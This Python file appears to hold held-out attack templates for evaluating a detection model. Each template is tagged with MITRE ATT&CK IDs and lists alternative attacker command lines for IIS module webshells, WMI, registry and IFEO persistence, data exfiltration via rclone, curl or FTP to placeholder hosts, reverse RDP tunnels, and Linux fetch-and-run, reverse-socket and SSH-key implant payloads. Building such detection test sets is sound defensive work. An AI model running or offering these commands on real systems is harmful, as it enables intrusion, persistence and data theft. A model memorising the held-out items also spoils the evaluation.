"""Attacks held back: nothing was tuned on them, so they tell what the model is worth on what it has not met."""

from longtail.fleet.attack import Attack

ENGINE = ("mssql", "sqlagent")
TUNNEL = r"""
cmd: curl -L -o {drop}\{tool}.zip https://{beacon}/{rnd}.zip
or
cmd: powershell -c "Start-BitsTransfer -Source {url} -Destination {drop}\{tool}.exe"
or
cmd: copy \\{wan}\{letter}\{rnd} {drop}\{tool}.exe
or
nothing

cmd: C:\Windows\System32\OpenSSH\ssh.exe -o StrictHostKeyChecking=no -N -R {port}:127.0.0.1:3389 {rnd}@{wan}
or
cmd: echo y | {drop}\plink.exe -N -T -R {port}:127.0.0.1:3389 -P 443 -l {rnd} -pw {rndmix} {wan}
or
cmd: {drop}\{tool}.exe client --auth {rnd}:{rndmix} https://{beacon} R:{port}:socks
or
cmd: {drop}\{tool}.exe -c {drop}\{rnd}.ini
or
cmd: {drop}\ngrok.exe tcp 3389 --authtoken {digest} --log {drop}\{rnd}.log
or
cmd: {drop}\cloudflared.exe tunnel --url rdp://localhost:3389 --no-autoupdate

cmd: netsh interface portproxy add v4tov4 listenport={port} listenaddress=0.0.0.0 connectport=3389 connectaddress={ip}
or
cmd: reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v PortNumber /d {port} /f
or
cmd: netsh advfirewall firewall add rule name="{rnd}" dir=in action=allow protocol=TCP localport={port}
or
nothing

nothing
or
cmd: netstat -ano | findstr {port}
or
cmd: qwinsta
"""

RECIPES = (
    Attack("compiled-module", ("iis",), ("T1505.004", "T1027.004", "T1552.001"),
           "source compiled on the web server and hung into it as a module", r"""
cmd: C:\Windows\System32\inetsrv\appcmd.exe list apppool /text:name
or
cmd: C:\Windows\System32\inetsrv\appcmd.exe list apppool "{pool}" /text:processmodel.password
or
cmd: findstr /si "connectionString password" {web}\*.config
or
nothing

cmd: {net}\csc.exe /nologo /target:library /out:{web}\bin\{tool}.dll {webdrop}\{rnd}.cs
  {net}\cvtres.exe | @ /NOLOGO /READONLY /MACHINE:IX86 "/OUT:{webdrop}\RES{shorthex}.tmp" "{webdrop}\CSC{shorthex2}.TMP"
or
cmd: powershell -nop -c "Add-Type -Path {webdrop}\{rnd}.cs -OutputAssembly {web}\bin\{tool}.dll"
  {net}\csc.exe | @ /noconfig /fullpaths @"C:\Windows\TEMP\{rndmix}.cmdline"
    {net}\cvtres.exe | @ /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES{shorthex}.tmp"
or
cmd: certutil -f -decode {webdrop}\{rnd}.txt {web}\bin\{tool}.dll
or
{net}\jsc.exe | @ /nologo /t:library /out:{web}\bin\{tool}.dll {webdrop}\{rnd}.js

cmd: C:\Windows\System32\inetsrv\appcmd.exe add module /name:{rnd2} /type:{rnd2}.{tool} /app.name:"{stem}/"
or
cmd: C:\Windows\System32\inetsrv\appcmd.exe install module /name:{tool}Module /image:{web}\bin\{tool}.dll
or
cmd: C:\Windows\System32\inetsrv\appcmd.exe set config -section:system.webServer/modules /+[name='{rnd2}']

cmd: C:\Windows\System32\inetsrv\appcmd.exe recycle apppool "{pool}"
or
cmd: iisreset /noforce
or
nothing
""", (6, 500)),
    Attack("stays-without-a-service", ENGINE, ("T1546.003", "T1547.001", "T1546.012", "T1197"),
           "event subscriptions, run keys and debuggers that bring a program back", r"""
xp: powershell -nop -w hidden -c "[IO.File]::WriteAllBytes('{drop}\{tool}.exe',[Convert]::FromBase64String((gp
.. HKLM:\SOFTWARE\{rnd}).{letter}))"
or
xp: expand \\{wan}\{letter}\{rnd}.cab {drop}\{tool}.exe
or
xp: esentutl /y \\{wan}\{letter}\{rnd} /d {drop}\{tool}.exe /o
or
xp: extrac32 /Y /C \\{wan}\{letter}\{rnd}.cab {drop}\{tool}.dll

xp: mofcomp {drop}\{rnd}.mof
or
xp: wmic /namespace:\\root\subscription path __EventFilter create name="{rnd}", EventNameSpace="root\cimv2",
.. QueryLanguage="WQL", Query="SELECT * FROM __InstanceModificationEvent WITHIN {nnn}"
or
xp: powershell -c "Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments
.. @{Name='{rnd}';CommandLineTemplate='{drop}\{tool}.exe'}"
or
xp: bitsadmin /create {rnd} & bitsadmin /setnotifycmdline {rnd} {drop}\{tool}.exe NUL & bitsadmin /resume {rnd}

xp: reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger
.. /t REG_SZ /d "{drop}\{tool}.exe" /f
or
xp: reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d
.. "C:\Windows\system32\userinit.exe,{drop}\{tool}.exe" /f
or
xp: reg import {drop}\{rnd}.reg
or
xp: powershell New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name {rnd} -Value
.. {drop}\{tool}.exe -Force

{drop}\{tool}.exe
or
xp: forfiles /p c:\windows\system32 /m notepad.exe /c "{drop}\{tool}.exe"
  {drop}\{tool}.exe
or
xp: icacls {drop}\{tool}.exe /grant Everyone:F
""", (10, 1500)),
    Attack("packed-and-sent", ENGINE, ("T1074.001", "T1560.001", "T1567.002", "T1048"),
           "data gathered, packed and sent away with an ordinary tool for it", r"""
xp: dir /s /b {drive}:\*.bak {drive}:\*.pst {drive}:\*.kdbx
or
xp: mkdir {drop}\{rnd} & xcopy /s /h /q \\{server}\{stem}\*.xlsx {drop}\{rnd}
or
xp: robocopy \\{server}\c$\Users {drop}\{rnd} *.docx *.pdf /S /MAXAGE:{nnn}
or
nothing

xp: {drop}\rar.exe a -hp{password} -m5 -v{nnn}m {drop}\{rnd2}.rar {drop}\{rnd}
or
xp: "C:\Program Files\WinRAR\Rar.exe" a -ep1 -r -hp{rndmix} {drop}\{rnd2}.dat {drop}\{rnd}
or
xp: "C:\Program Files\7-Zip\7z.exe" a -mhe=on -p{rndmix} -v{nn}m {drop}\{rnd2}.log {drop}\{rnd}
or
xp: tar -czf {drop}\{rnd2}.tgz -C {drop} {rnd}
or
xp: powershell Compress-Archive -Path {drop}\{rnd} -DestinationPath {drop}\{rnd2}.zip

xp: {drop}\rclone.exe copy {drop} {rnd}: --include "{rnd2}.*" --transfers {nn} --no-check-certificate -q
or
xp: {drop}\{tool}.exe copy {drop}\{rnd2}.rar mega:{rnd} --config {drop}\{rnd}.conf
or
xp: curl -k -F "file=@{drop}\{rnd2}.rar" https://transfer.{rnd}.sh/
or
xp: curl -T {drop}\{rnd2}.dat -u {letter}:{rnd} ftp://{wan}/{rnd}/
or
xp: powershell -c "(New-Object Net.WebClient).UploadFile('https://{beacon}/{rnd}','{drop}\{rnd2}.zip')"
or
xp: "C:\Program Files\WinSCP\WinSCP.com" /command "open sftp://{rnd}:{rndmix}@{wan} -hostkey=*" "put {drop}\{rnd2}.*"

xp: del /f /q {drop}\{rnd2}.*
or
xp: rd /s /q {drop}\{rnd}
or
nothing
""", (20, 2400)),
    Attack("reverse-tunnel", ENGINE, ("T1572", "T1090", "T1021.001"),
           "a way in from outside: a tunnel that the server opens itself", TUNNEL.replace("cmd: ", "xp: "), (15, 1200)),
    Attack("web-tunnel", ("iis", "tomcat"), ("T1572", "T1090"), "the same from a web server", TUNNEL, (15, 1200)),
    Attack("deserialised", ("tomcat-linux", "web-linux"), ("T1190", "T1059.004", "T1105", "T1053.003", "T1098.004"),
           "one line out of a deserialised object: fetch, hide, go on after the daemon ends", r"""
sh: busybox wget -q -O {nixdrop}/{nixtool} http://{beacon}/{rnd}
  /usr/bin/busybox | busybox chmod 755 {nixdrop}/{nixtool}
or
/usr/bin/bash | bash -c {echo,{blob}}|{base64,-d}|bash
  /usr/bin/base64 | base64 -d
  /usr/bin/bash | bash
    /usr/bin/curl | curl -so {nixdrop}/{nixtool} http://{beacon}/{rnd}
or
sh: perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in({port},inet_aton("{wan}")))'
or
sh: python3 -c 'import urllib.request as u;open("{nixdrop}/{nixtool}","wb").write(u.urlopen("http://{beacon}/{rnd}").read())'

sh: nohup {nixdrop}/{nixtool} >/dev/null 2>&1 &
  {nixdrop}/{nixtool}
or
sh: setsid {nixdrop}/{nixtool} -d {wan}:{port}
  {nixdrop}/{nixtool} | @ -d {wan}:{port}
or
sh: chmod +x {nixdrop}/{nixtool}; exec -a [kworker/u{n}:{n2}] {nixdrop}/{nixtool}
  {nixdrop}/{nixtool} | [kworker/u{n}:{n2}]

sh: echo ssh-rsa {blob} {rnd} >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys
or
sh: (crontab -l; echo "@reboot {nixdrop}/{nixtool}") | crontab -
or
sh: rm -f {nixdrop}/{nixtool} ~/.bash_history
or
nothing

sh: ss -antp | grep {port}
or
sh: ip addr; cat /etc/hosts
or
nothing
""", (1, 200)),
    Attack("assembly", ("mssql",), ("T1505.001", "T1218.004", "T1105"),
           "an assembly in the database starts programs itself: no xp_cmdshell, no shell", r"""
{net}\csc.exe | @ /nologo /out:{drop}\{tool}.exe {drop}\{rnd}.cs
  {net}\cvtres.exe | @ /NOLOGO /READONLY /MACHINE:IX86 "/OUT:{drop}\RES{shorthex}.tmp"
or
finger.exe | finger {letter}@{wan}
or
C:\Windows\System32\desktopimgdownldr.exe | desktopimgdownldr /lockscreenurl:{url}.png /eventName:{rnd}
or
C:\Program Files\dotnet\dotnet.exe | dotnet {data}\{rnd}.dll --urls http://0.0.0.0:{port}
or
{net}\MSBuild.exe | @ {drop}\{rnd}.xml

{net}\InstallUtil.exe | @ /logfile= /LogToConsole=false /U {drop}\{tool}.exe
or
{drop}\{tool}.exe | @ {id}
or
{data}\{tool}.exe
or
C:\Windows\System32\wbem\WMIC.exe | wmic process call create "{drop}\{tool}.exe"

whoami.exe | whoami /groups
or
systeminfo.exe
or
nothing
""", (3, 400)),
)  # fmt: skip
